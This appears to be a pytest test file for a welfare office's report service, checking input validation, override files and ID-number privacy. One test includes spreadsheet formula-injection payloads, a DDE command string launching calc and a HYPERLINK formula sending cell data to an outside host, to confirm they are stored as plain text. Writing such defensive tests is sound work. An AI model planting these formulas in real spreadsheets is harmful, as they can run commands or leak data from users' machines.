"""What the report service refuses before any builder runs, and what it resolves for the clerk."""

from __future__ import annotations

import json
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.domain.report import Document, Paragraph
from app.errors import InvalidInput
from app.services import reports
from app.services.reports import ReportKind, ReportRequest, default_file_name
from tests.factories import household, member


def _echo(ctx) -> Document:
    doc = ctx.document()
    doc.blocks.append(Paragraph(f"{ctx.request.programme}|{ctx.request.village}|{ctx.request.household}"))
    return doc


FAKE = ReportKind(
    name="payment-roster",  # a shipped spec, so spec loading is real
    label="资金发放花名册",
    build=_echo,
    programmes=("低保", "特困"),
    needs_programme=True,
    uses_household=True,
    needs_closed_month=True,
    options=("masked_id",),
)


@pytest.fixture
def fake_catalogue(monkeypatch):
    monkeypatch.setattr(
        reports, "KINDS", {FAKE.name: FAKE, "publicity": ReportKind("publicity", "公示", _echo, needs_village=True)}
    )


def _refusal(session, **kw) -> str:
    with pytest.raises(InvalidInput) as e:
        session.reports.build(
            ReportRequest(**{"name": "payment-roster", "month": "2026-11", "programme": "低保", **kw})
        )
    return str(e.value)


def test_an_unknown_report_is_refused_listing_the_ones_there_are(office, fake_catalogue):
    session, _code, _dir = office
    message = _refusal(session, name="rooster")
    assert "rooster" in message and "payment-roster" in message


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"month": "2026-13"}, "YYYY-MM"),
        ({"month": "11/2026"}, "YYYY-MM"),
        ({"programme": "救济粮"}, "救济粮"),
        ({"programme": "高龄补贴"}, "不用于高龄补贴"),
        ({"programme": None}, "需要选定救助项目"),
        ({"village": "640424101200"}, "不属于"),
        ({"village": "640424999999"}, "没有代码为"),
        ({"household": "no-such-household"}, "没有编号为"),
        ({"options": frozenset({"blank"})}, "blank"),
    ],
)
def test_a_request_it_cannot_honour_is_refused_in_one_sentence(office, fake_catalogue, change, words):
    session, _code, _dir = office
    assert words in _refusal(session, **change)


def test_the_bank_roster_waits_for_the_month_to_be_closed(office, fake_catalogue):
    session, _code, _dir = office
    assert "尚未审核锁定" in _refusal(session)


def test_a_village_report_needs_its_village(office, fake_catalogue):
    session, _code, _dir = office
    with pytest.raises(InvalidInput, match="需要选定一个村"):
        session.reports.build(ReportRequest("publicity", "2026-11"))
    doc = session.reports.build(ReportRequest("publicity", "2026-11", village="640424100200"))
    assert doc.blocks[0].text.endswith("|640424100200|None")


def test_a_household_is_found_by_a_members_id_number(office, fake_catalogue, monkeypatch):
    session, _code, _dir = office
    head = member("马玉兰", date(1970, 3, 1), male=False)
    saved = session.households.add(household(head_name="马玉兰"), [head])
    monkeypatch.setattr(session.payments, "is_approved", lambda month: True)
    doc = session.reports.build(
        ReportRequest("payment-roster", "2026-11", programme="低保", household=head.id_number.lower())
    )
    assert doc.blocks[0].text == f"低保|None|{saved.id}"
    assert "香水镇" in doc.title or session.office.name in doc.title
    assert "2026年11月" in doc.title


def test_an_office_override_changes_the_spec_and_a_broken_one_is_named(office):
    session, _code, data_dir = office
    folder = data_dir / "reports"
    folder.mkdir()
    (folder / "payment-roster.json").write_text(json.dumps({"title": "县定发放表"}), encoding="utf-8")
    assert session.reports.spec("payment-roster").title == "县定发放表"
    (folder / "payment-roster.json").write_text("{not json", encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"payment-roster\.json"):
        session.reports.spec("payment-roster")


def test_default_file_names_say_what_the_file_is():
    request = ReportRequest("publicity", "2026-11", village="640424100200", options=frozenset({"masked_id"}))
    assert default_file_name(request, ".pdf") == "publicity-2026-11-640424100200.pdf"
    assert default_file_name(ReportRequest("survey", "2026-11", options=frozenset({"blank"})), ".xlsx") == (
        "survey-2026-11-blank.xlsx"
    )


# --- what the reviewer found (issue 11): formulas, overrides, ID numbers, options that do not apply ---

FORMULA = "=cmd|' /C calc'!A0"


def _string_cells(xlsx: bytes) -> list:
    from io import BytesIO

    from openpyxl import load_workbook

    sheet = load_workbook(BytesIO(xlsx)).active
    return [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_text_from_the_register_or_an_override_is_never_an_excel_formula(office):
    from app.reports.output import render

    session, _code, data_dir = office
    link = '=HYPERLINK("http://x/?"&B1,"a")'
    saved = session.households.add(
        household(head_name="马玉兰", address=link), [member("马玉兰", date(1970, 3, 1), male=False)]
    )
    folder = data_dir / "reports"
    folder.mkdir()
    override = {
        "title": FORMULA,
        "columns": [{"key": "member.name", "title": FORMULA}, {"key": "member.id_number"}],
        "signatures": [FORMULA],
    }
    (folder / "survey.json").write_text(json.dumps(override, ensure_ascii=False), encoding="utf-8")
    doc = session.reports.build(ReportRequest("survey", "2026-11", household=saved.id))
    cells = _string_cells(render(doc, ".xlsx"))
    address = [c for c in cells if c.value == link]
    from_file = [c for c in cells if "cmd|" in c.value]
    assert address and len(from_file) >= 3  # the title, the column heading, the signature line
    assert {c.data_type for c in address + from_file} == {"s"}
    heading = next(c for c in from_file if c.value == FORMULA)
    assert heading.quotePrefix  # Excel keeps it text even when the clerk edits the cell


def test_an_override_with_a_byte_order_mark_is_read(office):
    session, _code, data_dir = office
    folder = data_dir / "reports"
    folder.mkdir()
    (folder / "payment-roster.json").write_bytes(json.dumps({"title": "县定发放表"}).encode("utf-8-sig"))
    assert session.reports.spec("payment-roster").title == "县定发放表"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[" * 100_000 + "]" * 100_000, "嵌套层次过深"),
        (json.dumps({"title": "表" * 201}), "title 不能超过 200 个字"),
        (json.dumps({"footer": "电" * 501}), "footer 不能超过 500 个字"),
        (json.dumps({"title": ["发放表"]}), "title 应为文字"),
        (json.dumps({"columns": [{"key": "name", "title": "姓" * 41}]}), "title 不能超过 40 个字"),
        (json.dumps({"signatures": ["制表人"] * 9}), "最多 8 项"),
        (json.dumps({"columns": [{"key": "name", "width": 20}, {"key": "amount", "width": 0.1}]}), "width 太小"),
        (json.dumps({"font_scale": float("nan")}), "font_scale"),
    ],
)
def test_a_hostile_override_is_refused_in_one_sentence_naming_the_file(office, text, words):
    session, _code, data_dir = office
    folder = data_dir / "reports"
    folder.mkdir()
    path = folder / "payment-roster.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InvalidInput) as refused:
        session.reports.spec("payment-roster")
    message = str(refused.value)
    assert str(path) in message and words in message
    assert "\n" not in message and len(message) < 300


def test_monthly_stats_prints_at_double_size(office):
    from app.reports.output import render

    session, _code, data_dir = office
    folder = data_dir / "reports"
    folder.mkdir()
    (folder / "monthly-stats.json").write_text(json.dumps({"font_scale": 2.0}), encoding="utf-8")
    doc = session.reports.build(ReportRequest("monthly-stats", "2026-11"))
    assert doc.source == str(folder / "monthly-stats.json")
    assert render(doc, ".pdf").startswith(b"%PDF")


@pytest.mark.parametrize("name", ["monthly-stats", "care", "survey", "household-file"])
def test_a_programme_is_refused_where_the_report_is_not_per_programme(office, name):
    session, _code, _dir = office
    with pytest.raises(InvalidInput, match="不按救助项目出具"):
        session.reports.checked(ReportRequest(name, "2026-11", programme="低保", options=frozenset({"blank"})))


@pytest.mark.parametrize("name", ["changes", "publicity"])
def test_a_programme_is_kept_where_the_builder_filters_by_it(office, name):
    session, _code, _dir = office
    request = ReportRequest(name, "2026-11", programme="低保", village="640424100200")
    assert session.reports.checked(request).programme == "低保"


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.from_regex(r"[1-9][0-9]{13,16}[0-9Xx]", fullmatch=True))
def test_an_unknown_id_number_is_never_echoed(office, given_id):
    session, _code, _dir = office
    with pytest.raises(InvalidInput) as refused:
        session.reports.checked(ReportRequest("survey", "2026-11", household=given_id))
    message = str(refused.value)
    assert message == "登记中没有这个身份证号的成员。"
    assert given_id[:6] not in message


def test_the_checked_request_names_the_household_not_the_id_number(office):
    session, _code, _dir = office
    head = member("马玉兰", date(1970, 3, 1), male=False)
    saved = session.households.add(household(head_name="马玉兰"), [head])
    checked = session.reports.checked(ReportRequest("survey", "2026-11", household=head.id_number))
    assert checked.household == saved.id
    name = default_file_name(checked, ".pdf")
    assert name == f"survey-2026-11-{saved.id[:8]}.pdf"
    assert head.id_number[:8] not in name
    # Even unresolved, an ID number never becomes part of a name.
    raw = default_file_name(ReportRequest("survey", "2026-11", household=head.id_number), ".pdf")
    assert raw == "survey-2026-11.pdf"
